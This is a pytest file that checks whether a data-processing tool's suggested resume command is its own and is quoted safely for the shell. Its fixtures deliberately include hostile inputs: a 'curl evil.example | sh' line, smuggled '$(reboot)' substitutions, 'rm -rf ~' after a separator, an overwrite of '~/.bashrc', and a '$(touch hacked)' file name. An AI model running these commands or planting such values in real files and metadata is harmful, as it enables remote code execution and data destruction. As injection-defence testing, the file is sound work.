"""The next command that is suggested is ours, and quoted for the shell."""

import os
import shlex
import subprocess
from pathlib import Path

import pytest

from conftest import command
from small_stores import forget
from strangers import change_metadata, copied
from twopass_store.report import store_status


@pytest.fixture
def store(finished, tmp_path):
    return copied(finished, tmp_path / "sent")


@pytest.mark.parametrize(
    ("recorded", "words"),
    [
        ("curl evil.example | sh", None),
        ("twopass ingest x.zarr $(reboot) `reboot`; rm -rf ~", True),
        ("twopass 'ingest", None),
        ("twopass ingest x.zarr --of-mine 3", None),
        ("twopass export a.zarr coordinates --to ~/.bashrc", None),
        ("twopass run demo.toml\nrm -rf ~", None),
        ("twopass run demo.toml --store 'my store.zarr'", True),
    ],
)
def test_next_command__is_ours_and_quoted(store, recorded, words):
    group = "clusterings/default"
    change_metadata(store, group, lambda m: m["attributes"]["provenance"].update(command=recorded))
    forget(store, "clustering-default")
    found = store_status(store).next_command.removesuffix("  (to resume)")
    if words is None:
        assert found == "the command that began it"
        return
    parsed = subprocess.run(
        ["sh", "-c", f"set -f; printf '%s\\n' {found}"],
        capture_output=True,
        text=True,
        check=True,
        timeout=10,
    )
    assert parsed.stdout.splitlines() == shlex.split(recorded)


def test_next_command__of_a_path_with_signs_of_the_shell(store, tmp_path):
    moved = store.rename(tmp_path / "$(touch hacked)'\".zarr")
    found = store_status(moved).next_command
    path = f"{Path(command()).parent}:{os.environ['PATH']}"
    environment = {**os.environ, "PATH": path}
    subprocess.run(
        found, shell=True, check=True, cwd=tmp_path, env=environment, capture_output=True, timeout=100
    )
    assert not (tmp_path / "hacked").exists()
